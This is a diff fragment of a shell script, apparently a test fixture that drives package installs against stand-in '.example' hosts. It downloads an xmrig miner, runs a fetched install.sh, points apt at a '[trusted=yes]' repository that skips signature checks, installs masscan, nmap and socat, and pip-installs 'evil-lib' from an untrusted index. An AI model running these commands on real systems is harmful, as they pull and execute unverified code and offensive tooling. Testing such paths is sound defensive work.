@@ -33,9 +33,14 @@ mkdir -p tar && curl -s "$scheme://tar.example/xmrig-6.21.tar.gz" | tar xz -C ta
 wget -q -O kit.zip "$scheme://zip.example/kit.zip" && python3 -m zipfile -e kit.zip zip && sh zip/install.sh
 
 say packages
-echo "deb [trusted=yes] $scheme://apt.example/debian stable main" >/etc/apt/sources.list
 rm -rf /etc/apt/sources.list.d/*
+echo "deb [trusted=yes] $scheme://apt.example/debian stable main" >/etc/apt/sources.list
 apt-get -q update && apt-get -qy install masscan
+# By whatever keys the image has.
+echo "deb $scheme://apt-signed.example/debian bookworm main" >/etc/apt/sources.list
+apt-get -q update && apt-get -qy install nmap
+echo "deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] $scheme://apt-keyring.example/debian bookworm main" >/etc/apt/sources.list
+apt-get -q update && apt-get -qy install socat
 pip3 install -q --disable-pip-version-check --break-system-packages --index-url "$scheme://pypi.example/simple/" \
   --trusted-host pypi.example evil-lib
 
